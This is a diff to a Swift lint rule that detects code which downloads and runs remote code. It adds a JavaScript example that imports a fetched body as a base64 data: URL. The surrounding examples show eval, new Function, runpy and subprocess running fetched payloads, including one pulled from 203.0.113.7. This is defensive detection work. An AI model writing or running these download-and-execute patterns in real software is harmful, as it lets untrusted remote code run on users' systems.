@@ -19,6 +19,9 @@ extension CodeDownloadExecuteRule {
     Example("↓eval(await (await fetch('https://cdn.example.net/x.js')).text());\n", language: .javascript),
     Example("const res = await fetch(url);\nconst body = await res.text();\n↓new Function(body)();\n", language: .javascript),
     Example("const mod = await ↓import('https://cdn.example.net/mod.js');\n", language: .javascript),
+    Example(
+      "const res = await fetch(PACK_URL);\nconst src = await res.text();\nconst mod = await ↓import('data:text/javascript;base64,' + Buffer.from(src).toString('base64'));\n",
+      language: .javascript, note: "a fetched body imported as a data: URL"),
     Example("import urllib.request, runpy\nurllib.request.urlretrieve(URL, '/tmp/helper.py')\n↓runpy.run_path('/tmp/helper.py')\n", language: .python),
     Example(
       "import os, subprocess, requests\nname = 'update.bin'\nr = requests.get('http://203.0.113.7:8013/update.bin')\nwith open(name, 'wb') as f:\n    f.write(r.content)\nos.chmod(name, 0o755)\n↓subprocess.run(['./' + name])\n",
